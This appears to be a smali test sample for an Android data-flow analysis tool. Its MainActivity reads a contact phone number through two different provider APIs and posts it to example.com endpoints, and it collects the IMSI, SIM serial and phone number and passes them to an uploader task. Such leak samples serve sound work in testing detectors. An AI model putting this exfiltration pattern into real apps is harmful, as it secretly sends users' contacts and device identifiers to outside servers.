.class public Lorg/dexflow/sample/sourcesclean/MainActivity;
.super Landroid/app/Activity;
.source "MainActivity.java"

.method public constructor <init>()V
    .registers 1
    invoke-direct {p0}, Landroid/app/Activity;-><init>()V
    return-void
.end method

.method protected onCreate(Landroid/os/Bundle;)V
    .registers 2
    invoke-super {p0, p1}, Landroid/app/Activity;->onCreate(Landroid/os/Bundle;)V
    invoke-direct {p0}, Lorg/dexflow/sample/sourcesclean/MainActivity;->managed()V
    invoke-direct {p0}, Lorg/dexflow/sample/sourcesclean/MainActivity;->providerClient()V
    invoke-direct {p0}, Lorg/dexflow/sample/sourcesclean/MainActivity;->simIds()V
    return-void
.end method

# First phone number of the contacts list through Activity.managedQuery.
.method private managed()V
    .registers 7
    sget-object v1, Landroid/provider/ContactsContract$CommonDataKinds$Phone;->CONTENT_URI:Landroid/net/Uri;
    const/4 v2, 0x0
    const/4 v3, 0x0
    const/4 v4, 0x0
    const/4 v5, 0x0
    move-object v0, p0
    invoke-virtual/range {v0 .. v5}, Lorg/dexflow/sample/sourcesclean/MainActivity;->managedQuery(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;
    move-result-object v0
    invoke-interface {v0}, Landroid/database/Cursor;->moveToFirst()Z
    const/4 v1, 0x0
    invoke-interface {v0, v1}, Landroid/database/Cursor;->getString(I)Ljava/lang/String;
    move-result-object v0
    const-string v1, "https://contacts.example.com/managed"
    invoke-static {v1, v0}, Lorg/dexflow/sample/sourcesclean/Net;->post(Ljava/lang/String;Ljava/lang/String;)V
    return-void
.end method

# The same through a ContentProviderClient of the contacts provider.
.method private providerClient()V
    .registers 7
    invoke-virtual {p0}, Lorg/dexflow/sample/sourcesclean/MainActivity;->getContentResolver()Landroid/content/ContentResolver;
    move-result-object v0
    sget-object v1, Landroid/provider/ContactsContract$CommonDataKinds$Phone;->CONTENT_URI:Landroid/net/Uri;
    invoke-virtual {v0, v1}, Landroid/content/ContentResolver;->acquireContentProviderClient(Landroid/net/Uri;)Landroid/content/ContentProviderClient;
    move-result-object v0
    const/4 v2, 0x0
    const/4 v3, 0x0
    const/4 v4, 0x0
    const/4 v5, 0x0
    invoke-virtual/range {v0 .. v5}, Landroid/content/ContentProviderClient;->query(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;
    move-result-object v0
    invoke-interface {v0}, Landroid/database/Cursor;->moveToFirst()Z
    const/4 v1, 0x0
    invoke-interface {v0, v1}, Landroid/database/Cursor;->getString(I)Ljava/lang/String;
    move-result-object v0
    const-string v1, "https://contacts.example.com/client"
    invoke-static {v1, v0}, Lorg/dexflow/sample/sourcesclean/Net;->post(Ljava/lang/String;Ljava/lang/String;)V
    return-void
.end method

# IMSI, SIM serial and phone number joined and handed to an AsyncTask.
.method private simIds()V
    .registers 6
    const-string v0, "phone"
    invoke-virtual {p0, v0}, Lorg/dexflow/sample/sourcesclean/MainActivity;->getSystemService(Ljava/lang/String;)Ljava/lang/Object;
    move-result-object v0
    check-cast v0, Landroid/telephony/TelephonyManager;
    new-instance v1, Ljava/lang/StringBuilder;
    invoke-direct {v1}, Ljava/lang/StringBuilder;-><init>()V
    invoke-virtual {v0}, Landroid/telephony/TelephonyManager;->getSubscriberId()Ljava/lang/String;
    move-result-object v2
    invoke-virtual {v1, v2}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    invoke-virtual {v0}, Landroid/telephony/TelephonyManager;->getSimSerialNumber()Ljava/lang/String;
    move-result-object v2
    invoke-virtual {v1, v2}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    invoke-virtual {v0}, Landroid/telephony/TelephonyManager;->getLine1Number()Ljava/lang/String;
    move-result-object v2
    invoke-virtual {v1, v2}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    invoke-virtual {v1}, Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
    move-result-object v1
    new-instance v2, Lorg/dexflow/sample/sourcesclean/Uploader;
    invoke-direct {v2}, Lorg/dexflow/sample/sourcesclean/Uploader;-><init>()V
    const/4 v3, 0x1
    new-array v3, v3, [Ljava/lang/String;
    const/4 v4, 0x0
    aput-object v1, v3, v4
    invoke-virtual {v2, v3}, Lorg/dexflow/sample/sourcesclean/Uploader;->execute([Ljava/lang/Object;)Landroid/os/AsyncTask;
    return-void
.end method
